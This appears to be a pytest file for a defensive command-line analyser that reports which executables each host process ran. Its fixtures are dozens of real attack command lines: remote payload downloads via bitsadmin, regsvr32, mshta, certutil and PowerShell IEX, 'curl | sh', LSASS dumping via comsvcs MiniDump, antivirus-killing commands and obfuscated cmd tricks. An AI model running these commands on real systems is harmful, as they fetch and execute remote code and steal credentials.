"""What ran inside a process, told line by line: the command line, then each ``host > file`` (built-ins in brackets)."""

import base64
import time

import pytest

from longtail.executions.hosted import MAX_DEPTH, MAX_FOUND, Hosted, hosted
from longtail.executions.hosts import HOSTS, host
from longtail.executions.paths import Executable, Zone

CASES = r'''
taskkill  /im 360rp.exe /f
    ->
ntsd -c q -pn 360rp.exe
    ->
ftp -s:So.2
    -> ftp.exe > so.2
Svn.exe
    ->
del So.2
    ->
bitsadmin  /transfer n http://1.2.3.4/Svn.exe c:\Users\Public\Svn.exe"
    ->
"C:\Windows\system32\cmd.exe" /c taskkill  /im 360rp.exe /f
    -> cmd.exe > taskkill
"C:\Windows\system32\cmd.exe" /c ntsd -c q -pn 360sd.exe
    -> cmd.exe > ntsd
"C:\Windows\system32\cmd.exe" /c echo open 1.2.3.4>So.2
    -> cmd.exe > [echo]
"C:\Windows\system32\cmd.exe" /c echo 111>>So.2
    -> cmd.exe > [echo]
"C:\Windows\system32\cmd.exe" /c echo 000>>So.2
    -> cmd.exe > [echo]
"C:\Windows\system32\cmd.exe" /c echo get Svn.exe >>So.2
    -> cmd.exe > [echo]
"C:\Windows\system32\cmd.exe" /c echo bye
    -> cmd.exe > [echo]
"C:\Windows\system32\cmd.exe" /c ftp -s:So.2
    -> cmd.exe > ftp; ftp.exe > so.2
"C:\Windows\system32\cmd.exe" /c del So.2
    -> cmd.exe > [del]
"C:\Windows\system32\cmd.exe" /c Svn.exe
    -> cmd.exe > svn.exe
"C:\Windows\system32\cmd.exe" /c bitsadmin  /transfer n http://1.2.3.4/Svn.exe c:\Users\Public\Svn.exe"
    -> cmd.exe > bitsadmin
rundll32.exe C:\Users\bob\AppData\Local\Temp\a.dll,Start
    -> rundll32.exe > \users\{user}\appdata\local\temp\a.dll
rundll32 "C:\Program Files\App\a b.dll",Entry arg1
    -> rundll32.exe > \program files\app\a b.dll
rundll32 C:\Temp\a.dll #1
    -> rundll32.exe > \temp\a.dll
rundll32.exe C:\Temp\a.dll,#2 x
    -> rundll32.exe > \temp\a.dll
rundll32 javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://1.2.3.4/a.sct")
    -> rundll32.exe > http://{remote}/a.sct
rundll32 vbscript:"\..\mshtml,RunHTMLApplication "+String(CreateObject("WScript.Shell").Run("calc.exe"),0)
    -> rundll32.exe > [vbscript:]
rundll32 shell32.dll,ShellExec_RunDLL C:\Temp\x.exe -y
    -> rundll32.exe > shell32.dll; rundll32.exe > \temp\x.exe
rundll32.exe shell32.dll,Control_RunDLL C:\Temp\x.cpl
    -> rundll32.exe > shell32.dll; rundll32.exe > \temp\x.cpl
rundll32 url.dll,OpenURL C:\Temp\x.hta
    -> rundll32.exe > url.dll; rundll32.exe > \temp\x.hta
rundll32.exe url.dll,FileProtocolHandler http://1.2.3.4/x.exe
    -> rundll32.exe > url.dll; rundll32.exe > http://{remote}/x.exe
rundll32 advpack.dll,LaunchINFSection C:\Temp\x.inf,DefaultInstall_SingleUser,1,
    -> rundll32.exe > advpack.dll; rundll32.exe > \temp\x.inf
rundll32 setupapi.dll,InstallHinfSection DefaultInstall 132 C:\Temp\x.inf
    -> rundll32.exe > setupapi.dll; rundll32.exe > \temp\x.inf
rundll32 pcwutl.dll,LaunchApplication calc.exe
    -> rundll32.exe > pcwutl.dll; rundll32.exe > calc.exe
rundll32 zipfldr.dll,RouteTheCall C:\Temp\x.exe
    -> rundll32.exe > zipfldr.dll; rundll32.exe > \temp\x.exe
rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Temp\l.dmp full
    -> rundll32.exe > \windows\system32\comsvcs.dll
rundll32 C:\Program Files\App\x.dll,Run
    -> rundll32.exe > \program files\app\x.dll
regsvr32 /s /n /u /i:http://1.2.3.4/x.sct scrobj.dll
    -> regsvr32.exe > scrobj.dll; regsvr32.exe > http://{remote}/x.sct
regsvr32.exe -s C:\Temp\x.dll
    -> regsvr32.exe > \temp\x.dll
regsvr32 /s "C:\Program Files\a b\x.ocx"
    -> regsvr32.exe > \program files\a b\x.ocx
mshta http://1.2.3.4/a.hta
    -> mshta.exe > http://{remote}/a.hta
mshta.exe javascript:a=GetObject("script:http://1.2.3.4/c.sct").Exec();close();
    -> mshta.exe > http://{remote}/c.sct
mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc""")
    -> mshta.exe > [vbscript:]
wscript //B //E:vbscript C:\Temp\x.txt arg
    -> wscript.exe > \temp\x.txt
cscript.exe //nologo "C:\Scripts\backup job.vbs"
    -> cscript.exe > \scripts\backup job.vbs
msiexec /q /i http://1.2.3.4/x.msi
    -> msiexec.exe > http://{remote}/x.msi
msiexec.exe /i "C:\Users\Public\a b.msi" /qn
    -> msiexec.exe > \users\public\a b.msi
msiexec /y C:\Temp\x.dll
    -> msiexec.exe > \temp\x.dll
msiexec /x {90160000-008C-0000-1000-0000000FF1CE} /qn
    ->
msiexec.exe /V
    ->
C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe /logfile= /U C:\Temp\x.dll
    -> installutil.exe > \temp\x.dll
regasm.exe /U C:\Temp\x.dll
    -> regasm.exe > \temp\x.dll
odbcconf /a {REGSVR C:\Temp\x.dll}
    -> odbcconf.exe > \temp\x.dll
odbcconf.exe -f C:\Temp\x.rsp
    -> odbcconf.exe > \temp\x.rsp
powershell -File C:\Scripts\a.ps1 -Days 3
    -> powershell.exe > \scripts\a.ps1
powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "& 'C:\a b\x.ps1'"
    -> powershell.exe > \a b\x.ps1
powershell /EnCoD dwBoAG8AYQBtAGkA
    -> powershell.exe > whoami
powershell –ec dwBoAG8AYQBtAGkA
    -> powershell.exe > whoami
pwsh -c Get-Service
    -> pwsh.exe > [get-service]
powershell "IEX (New-Object Net.WebClient).DownloadString('http://1.2.3.4/a')"
    -> powershell.exe > http://{remote}/a; powershell.exe > [iex]; powershell.exe > [new-object]
powershell iwr http://1.2.3.4/x -OutFile C:\Temp\x.exe; saps C:\Temp\x.exe
    -> powershell.exe > http://{remote}/x; powershell.exe > [iwr]; powershell.exe > [saps]; powershell.exe > \temp\x.exe
powershell Start-Process -FilePath notepad.exe -ArgumentList 'a.txt' -WindowStyle Hidden
    -> powershell.exe > [start-process]; powershell.exe > notepad.exe
powershell .\x.ps1
    -> powershell.exe > x.ps1
powershell -Command "iex 'whoami /all'"
    -> powershell.exe > [iex]; powershell.exe > whoami
powershell -Command -
    ->
powershell -Version 2 -NoP -Command $env:TEMP\x.exe
    -> powershell.exe > \users\{user}\appdata\local\temp\x.exe
powershell ip`config /all
    -> powershell.exe > ipconfig
powershell -enc zzzz
    -> powershell.exe > [-encodedcommand]
cmd /c whoami
    -> cmd.exe > whoami
cmd.exe /k C:\Temp\a.bat
    -> cmd.exe > \temp\a.bat
cmd /q /c "C:\Program Files\A\a.cmd"
    -> cmd.exe > \program files\a\a.cmd
cmd /s /c ""C:\Program Files\A\a.cmd" --x"
    -> cmd.exe > \program files\a\a.cmd
cmd /c "echo a & whoami && ipconfig /all || net user"
    -> cmd.exe > [echo]; cmd.exe > whoami; cmd.exe > ipconfig; cmd.exe > net
cmd /c (whoami)
    -> cmd.exe > whoami
cmd /c who^ami
    -> cmd.exe > whoami
c^md /c whoami
    -> cmd.exe > whoami
cmd/c whoami
    -> cmd.exe > whoami
cmd.exe /cwhoami
    -> cmd.exe > whoami
cmd /c ,;=whoami
    -> cmd.exe > whoami
cmd /c @"w"hoami
    -> cmd.exe > whoami
cmd /c w"h"oami
    -> cmd.exe > whoami
%COMSPEC% /c dir
    -> cmd.exe > [dir]
cmd /c %COMSPEC% /c whoami
    -> cmd.exe > \windows\system32\cmd.exe; cmd.exe > whoami
cmd /c for %i in (a b) do C:\Temp\%i.exe
    -> cmd.exe > \temp\%i.exe
cmd /c for /f "tokens=*" %a in ('whoami /all') do set x=%a
    -> cmd.exe > whoami; cmd.exe > [set]
cmd /c if exist C:\Temp\x.exe C:\Temp\x.exe -y
    -> cmd.exe > \temp\x.exe
cmd /c if not "%a%"=="b" (call x.bat) else (start "" /min /b C:\Temp\y.exe z)
    -> cmd.exe > x.bat; cmd.exe > \temp\y.exe
cmd /c start "title here" /wait "C:\Program Files\A\a.exe" -q
    -> cmd.exe > \program files\a\a.exe
cmd /c start /d C:\Temp x.exe
    -> cmd.exe > x.exe
cmd /c call C:\Temp\x.bat 1
    -> cmd.exe > \temp\x.bat
cmd /c type a.txt | findstr b > c.txt 2>&1
    -> cmd.exe > [type]; cmd.exe > findstr
cmd /c cmd /c cmd /c whoami
    -> cmd.exe > cmd; cmd.exe > cmd; cmd.exe > whoami
cmd /c ipconfig/all
    -> cmd.exe > ipconfig
cmd /c cd..&dir/s
    -> cmd.exe > [cd]; cmd.exe > [dir]
cmd /c ""
    ->
cmd.exe
    ->
cmd /c set /a 1+1
    -> cmd.exe > [set]
forfiles /p c:\windows\system32 /m notepad.exe /c calc.exe
    -> forfiles.exe > calc.exe
forfiles /p D:\Backup /s /m *.bak /d -7 /c "cmd /c del @path"
    -> forfiles.exe > cmd; cmd.exe > [del]
pcalua.exe -a C:\Temp\x.exe -c "-y"
    -> pcalua.exe > \temp\x.exe
schtasks /create /tn n /tr "C:\Users\Public\x.exe -y" /sc daily
    -> schtasks.exe > \users\public\x.exe
schtasks /query /tn n
    ->
at \\srv 12:00 /interactive cmd /c whoami
    -> at.exe > cmd; cmd.exe > whoami
wmic process call create "C:\Temp\x.exe -y"
    -> wmic.exe > \temp\x.exe
wmic /node:10.0.0.5 process call create 'cmd /c whoami'
    -> wmic.exe > cmd; cmd.exe > whoami
wmic cpu get name
    ->
wmic os get /format:"https://a.example.org/b.xsl"
    -> wmic.exe > https://{remote}/b.xsl
wmic process list /format:C:\ProgramData\a.xsl
    -> wmic.exe > \programdata\a.xsl
wmic os get caption /format:csv
    ->
sc create svc binPath= "C:\Temp\x.exe -k" start= auto
    -> sc.exe > \temp\x.exe
sc \\srv config svc binpath= C:\Temp\x.exe
    -> sc.exe > \temp\x.exe
sc query svc
    ->
psexec \\srv -u bob -p pw -s cmd /c whoami
    -> psexec.exe > cmd; cmd.exe > whoami
runas /user:corp\bob "cmd /c whoami"
    -> runas.exe > cmd; cmd.exe > whoami
explorer.exe C:\Temp\x.exe
    -> explorer.exe > \temp\x.exe
explorer /select,C:\Temp\x.exe
    ->
explorer.exe C:\Temp
    ->
control.exe C:\Temp\x.cpl
    -> control.exe > \temp\x.cpl
hh.exe C:\Temp\x.chm
    -> hh.exe > \temp\x.chm
msbuild.exe C:\Temp\x.csproj /nologo
    -> msbuild.exe > \temp\x.csproj
csi.exe C:\Temp\x.csx
    -> csi.exe > \temp\x.csx
dotnet C:\App\x.dll --urls http://*:80
    -> dotnet.exe > \app\x.dll
dotnet exec --runtimeconfig a.json C:\App\x.dll
    -> dotnet.exe > \app\x.dll
dotnet build
    ->
java -Xmx512m -jar /opt/app/app.jar --spring
    -> java.exe > /opt/app/app.jar
java -cp a.jar;b.jar com.example.Main x
    -> java.exe > com.example.main
javaw.exe -jar "C:\Users\bob\AppData\Roaming\x y.jar"
    -> javaw.exe > \users\{user}\appdata\roaming\x y.jar
python C:\Scripts\a.py --x
    -> python.exe > \scripts\a.py
python3 -m http.server 8000
    -> python3.exe > http.server
python -c "import os; os.system('id')"
    -> python.exe > [-c]
/usr/bin/python3.11 -u /opt/app/run.py
    -> python{ver} > /opt/app/run.py
perl -e 'print 1'
    -> perl.exe > [-e]
perl -w /tmp/x.pl
    -> perl.exe > /tmp/x.pl
ruby x.rb
    -> ruby.exe > x.rb
node --inspect server.js
    -> node.exe > server.js
php -r 'system("id");'
    -> php.exe > [-r]
php -f /var/www/x.php
    -> php.exe > /var/www/x.php
sh -c "cd /tmp && ./x -y"
    -> sh > [cd]; sh > x
/bin/sh -c hostname -d 2> /dev/null
    -> sh > hostname
bash -lc 'curl -s http://1.2.3.4/x | sh'
    -> bash > curl; bash > sh
bash /opt/x.sh a
    -> bash > /opt/x.sh
/bin/bash -x -e /opt/x.sh
    -> bash > /opt/x.sh
sh -c 'VAR=1 nohup /tmp/x > /dev/null 2>&1 &'
    -> sh > nohup; nohup > /tmp/x
busybox sh -c 'wget http://1.2.3.4/x'
    -> busybox > sh; sh > wget
env A=1 B=2 /usr/bin/python3 x.py
    -> env > /usr/bin/python3; python3 > x.py
nohup /tmp/x -y
    -> nohup > /tmp/x
sudo -u postgres /usr/bin/psql -c 'select 1'
    -> sudo > /usr/bin/psql
su - postgres -c "/tmp/x -y"
    -> su > /tmp/x
setsid /tmp/x
    -> setsid > /tmp/x
timeout -s 9 30 /tmp/x
    -> timeout.exe > /tmp/x
nice -n 10 tar cf a b
    -> nice.exe > tar
xargs -n 1 rm -f
    -> xargs > rm
systemd-run --unit=x /tmp/x
    -> systemd-run > /tmp/x
find / -name x -exec /tmp/y {} \;
    -> find.exe > /tmp/y
sh -c 'if [ -f /tmp/x ]; then . /tmp/x; fi'
    -> sh > [[]; sh > /tmp/x
sh -c 'for i in 1 2; do echo $i >> /tmp/a; done'
    -> sh > [echo]
sh -c "eval 'whoami; id'"
    -> sh > whoami; sh > id
/usr/bin/env -S python3 -u x.py
    -> env > python3; python3 > x.py
conhost.exe --headless C:\Temp\x.exe
    -> conhost.exe > \temp\x.exe
\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1
    ->
sqlcmd -S . -i C:\Temp\x.sql
    -> sqlcmd.exe > \temp\x.sql
sqlcmd -S . -Q "select 1"
    ->
dtexec /f "C:\SSIS\load data.dtsx"
    -> dtexec.exe > \ssis\load data.dtsx
bitsadmin /SetNotifyCmdLine n C:\Temp\x.exe -y
    -> bitsadmin.exe > \temp\x.exe
cmstp /s C:\Temp\x.inf
    -> cmstp.exe > \temp\x.inf
diskshadow /s C:\Temp\x.txt
    -> diskshadow.exe > \temp\x.txt
C:\Windows\System32\svchost.exe -k netsvcs -p
    ->
C:\Program Files\App\app.exe /run x.dll
    ->
certutil -urlcache -f http://1.2.3.4/x x.exe
    ->
timeout /t 30 /nobreak
    ->
cmd /c timeout 5 & C:\Temp\x.exe
    -> cmd.exe > timeout; cmd.exe > \temp\x.exe
sh -c 'exec /tmp/x -a'
    -> sh > /tmp/x
bash -c '. /etc/profile && command ls'
    -> bash > /etc/profile; bash > ls
cmd.exe /c "set x=1&%TEMP%\y.exe"
    -> cmd.exe > [set]; cmd.exe > \users\{user}\appdata\local\temp\y.exe
C:\Windows\System32\cmd.exe /d /s /c "npm run build"
    -> cmd.exe > npm
cmd /c copy \\10.0.0.5\c$\x.exe C:\Temp\x.exe & C:\Temp\x.exe
    -> cmd.exe > [copy]; cmd.exe > \temp\x.exe
/bin/sh -c "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )"
    -> sh > [test]; sh > [cd]; sh > run-parts
/bin/bash -c "echo Y2Fs | base64 -d | bash"
    -> bash > [echo]; bash > base64; bash > bash
C:\Windows\Sysnative\cmd.exe /c "C:\Program Files\nodejs\node.exe" C:\app\x.js
    -> cmd.exe > \program files\nodejs\node.exe; node.exe > \app\x.js
dash -c ls -la
    -> dash > ls
cmd /c powershell.exe -NoP -c "Invoke-Command -ScriptBlock { C:\Temp\x.exe }"
    -> cmd.exe > powershell.exe; powershell.exe > [invoke-command]; powershell.exe > \temp\x.exe
powershell.exe -ep bypass -f \\10.0.0.5\s\x.ps1
    -> powershell.exe > \\{server}\s\x.ps1
powershell.exe & C:\Temp\x.exe
    -> powershell.exe > \temp\x.exe
installutil.exe x.dll y.dll
    -> installutil.exe > x.dll; installutil.exe > y.dll
'''

OTHER_NAMES = r"""
C:\Temp\svc.exe | svc.exe C:\Temp\a.dll,Run
    -> svc.exe > \temp\a.dll
C:\Temp\svc.exe | svc.exe "C:\Temp\a b.dll",#1
    -> svc.exe > \temp\a b.dll
C:\Temp\svc.exe | "C:\Temp\svc.exe" /s /i:http://1.2.3.4/x.sct scrobj.dll
    -> svc.exe > scrobj.dll; svc.exe > http://{remote}/x.sct
C:\Temp\svc.exe | svc.exe -nop -enc dwBoAG8AYQBtAGkAIAAvAGEAbABsACAALwBmAG8A
    -> svc.exe > whoami
C:\Temp\svc.exe | svc.exe javascript:GetObject("script:http://1.2.3.4/a.sct")
    -> svc.exe > http://{remote}/a.sct
C:\Temp\svc.exe | svc.exe /c echo a>b
    -> svc.exe > [echo]
C:\Temp\svc.exe | rundll32.exe C:\Temp\a.dll,Run
    -> svc.exe > \temp\a.dll
C:\Windows\System32\rundll32.exe | svchost.exe C:\Temp\a.dll,Run
    -> rundll32.exe > \temp\a.dll
C:\App\app.exe | app.exe -e production --lib a.dll
    ->
C:\App\app.exe | app.exe /c config.ini
    ->
/usr/bin/perl5.34 | /usr/bin/perl5.34 /tmp/x
    -> perl{ver} > /tmp/x
/usr/bin/sudo | sudo -n -- /tmp/x
    -> sudo > /tmp/x
"""


def _cases(block: str) -> list[tuple[str, str]]:
    lines = block.strip().splitlines()
    return [(line, said.strip().removeprefix("->").strip()) for line, said in zip(lines[::2], lines[1::2], strict=True)]


def _told(image: str | None, line: str) -> str:
    return "; ".join(f"{each.hosted_by} > {_called(each.executable)}" for each in hosted(image, line))


def _called(ran: Executable) -> str:
    return f"[{ran.name}]" if ran.zone is Zone.BUILTIN else str(ran)


@pytest.mark.parametrize(("line", "said"), _cases(CASES))
def test_what_ran_inside(line: str, said: str) -> None:
    assert _told(None, line) == said


@pytest.mark.parametrize(("both", "said"), _cases(OTHER_NAMES))
def test_a_host_under_another_name_is_known_and_keeps_its_own(both: str, said: str) -> None:
    image, line = both.split(" | ", 1)
    assert _told(image, line) == said


def test_a_built_in_keeps_its_redirection_in_the_command() -> None:
    line = '"C:\\Windows\\system32\\cmd.exe" /c echo open 1.2.3.4>So.2'
    echo = Executable("", "echo", Zone.BUILTIN)
    assert hosted("C:\\Windows\\System32\\cmd.exe", line) == (Hosted(echo, "cmd.exe", "echo open 1.2.3.4>So.2"),)


def test_a_command_begins_with_the_file_that_ran() -> None:
    (ran,) = hosted(None, "rundll32.exe C:\\Temp\\a.dll,Start 1 2")
    assert ran.command == "C:\\Temp\\a.dll,Start 1 2"


@pytest.mark.parametrize("nothing", [None, "", " ", '"', "\x00"])
def test_nothing_told_hosts_nothing(nothing: str | None) -> None:
    assert hosted("C:\\Windows\\System32\\cmd.exe", nothing) == ()


@pytest.mark.parametrize("line", ["CMD.EXE /C whoami", "cmd  /c   whoami", "cmd /C w^h^oami", '"cmd" /c who"ami"'])
def test_spelling_makes_no_difference(line: str) -> None:
    assert _told(None, line) == "cmd.exe > whoami"


@pytest.mark.parametrize("option", ["-e", "-en", "-enc", "-EncodedCommand", "/e", "–enc", "—ec", "-eNCOdedc"])
def test_encoded_commands_however_abbreviated(option: str) -> None:
    assert _told(None, f"powershell -nop {option} dwBoAG8AYQBtAGkA") == "powershell.exe > whoami"


def test_what_an_encoded_command_downloads_ran_too() -> None:
    text = "IEX (New-Object Net.WebClient).DownloadString('http://1.2.3.4/a.ps1')"
    blob = base64.b64encode(text.encode("utf-16-le")).decode()
    assert _told(None, f"powershell -w hidden -e {blob}").startswith("powershell.exe > http://{remote}/a.ps1; ")


def test_a_no_break_space_separates_nothing() -> None:
    assert _told(None, "rundll32 C:\\Temp\\a.dll,Run\xa0x") == "rundll32.exe > \\temp\\a.dll"
    assert _told(None, "cmd\xa0/c whoami") != "cmd.exe > whoami"


def test_depth_and_number_are_bounded() -> None:
    assert len(hosted(None, "cmd /c " * 50 + "whoami")) == MAX_DEPTH
    assert len(hosted(None, "cmd /c " + " & ".join(["whoami"] * 500))) == MAX_FOUND


@pytest.mark.parametrize(
    "hostile",
    [
        "cmd /c " + "(" * 10_000,
        "cmd /c " + "a(" * 10_000,
        "cmd /c " + '"' * 10_000,
        "cmd /c " + "^" * 10_000,
        "cmd /c " + "if exist a " * 5_000,
        "cmd /c " + "for %i in (a) do " * 3_000,
        "cmd /c " + "call " * 6_000 + "x",
        "cmd /c " + "start " * 5_000 + "x",
        "sh -c " + "eval " * 6_000 + "x",
        "sh -c " + "$(" * 10_000,
        "sh -c " + "A=1 " * 10_000,
        "powershell -c " + "{" * 10_000,
        "powershell -c " + "$a=" * 10_000,
        "powershell -c " + "iex " * 10_000,
        "rundll32 " + "a.dll " * 5_000,
        "env " * 10_000,
        "x" * 100_000,
        "svc.exe " + " -e" * 30_000,
        "svc.exe " + "/i:a " * 20_000 + "scrobj",
    ],
    ids=lambda text: text[:20],
)
def test_hostile_lines_are_read_in_linear_time(hostile: str) -> None:
    assert any(_seconds(hostile + " " * again) < 0.5 for again in range(3))  # other work may disturb one of them


def _seconds(line: str) -> float:
    began = time.process_time()
    hosted(None, line)
    return time.process_time() - began


def test_every_name_of_a_host_is_found_with_and_without_exe() -> None:
    names = [name for row in HOSTS for name in row.names.split()]
    assert len(names) == len(set(names))
    assert all(host(name) and host(f"{name}.exe") for name in names)
